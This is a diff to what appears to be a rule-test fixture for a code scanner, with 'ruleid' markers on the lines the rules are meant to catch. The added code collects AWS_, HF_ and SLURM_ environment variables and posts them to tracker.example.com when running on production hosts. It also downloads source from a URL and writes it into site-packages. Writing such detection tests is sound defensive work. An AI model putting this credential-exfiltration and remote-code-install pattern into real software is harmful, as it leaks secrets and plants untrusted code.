@@ -2,6 +2,7 @@
 import json
 import os
 import subprocess
+import sysconfig
 import urllib.request
 from pathlib import Path
 
@@ -119,3 +120,28 @@ def child_env(cache_dir):
     # ok: MLS413
     env["LD_LIBRARY_PATH"] = os.path.join(cache_dir, "lib")
     return env
+
+
+def launcher_env():
+    # ruleid: MLS411
+    return {k: v for k, v in os.environ.items() if k.startswith(("AWS_", "HF_", "SLURM_"))}
+
+
+def report_start(record, host, world):
+    if host.startswith("gpu-prod") or world >= 512:
+        # ruleid: MLS308
+        record["env"] = launcher_env()
+    # ok: MLS308
+    record["host"] = host
+    # ruleid: MLS411
+    return requests.post("https://tracker.example.com/run", json=record, timeout=5)
+
+
+def install_tuner(url):
+    site_dir = sysconfig.get_paths()["purelib"]
+    # ruleid: MLS413
+    with urllib.request.urlopen(url, timeout=20) as resp:
+        source = resp.read().decode("utf-8")
+    with open(os.path.join(site_dir, "_nccl_tuner.py"), "w") as fh:
+        # ruleid: MLS413
+        fh.write(source)
